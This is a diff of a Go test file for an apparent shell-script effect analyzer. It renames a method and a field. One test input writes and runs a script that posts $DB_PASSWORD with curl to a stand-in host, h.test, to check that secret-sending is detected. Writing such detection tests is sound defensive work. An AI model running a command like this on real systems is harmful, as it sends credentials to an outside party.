@@ -13,10 +13,10 @@ import (
 func told(text string) string {
 	var out []string
 	for _, e := range Analyze(text, here()).Effects {
-		switch e.RuleKind() {
+		switch e.KindForPolicies() {
 		case effect.SendData, effect.ReadSecret:
-			line := string(e.RuleKind())
-			for _, part := range []string{e.Host + e.Target, e.Path} {
+			line := string(e.KindForPolicies())
+			for _, part := range []string{e.Host + e.RemoteTargetName, e.Path} {
 				if part != "" {
 					line += " " + part
 				}
@@ -109,7 +109,7 @@ func TestScriptsThatAreGivenSecrets(t *testing.T) {
 	t.Parallel()
 	for body, sends := range map[string]bool{`mysql -u root -p"$1" app`: false, `curl -d "$1" https://h.test/`: true} {
 		text := "printf '%s\\n' '" + body + `' > t.sh; chmod +x t.sh; ./t.sh "$DB_PASSWORD"`
-		got := slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.RuleKind() == effect.SendSecret })
+		got := slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.KindForPolicies() == effect.SendSecret })
 		if got != sends {
 			t.Errorf("%s: sends a secret %v, want %v", text, got, sends)
 		}
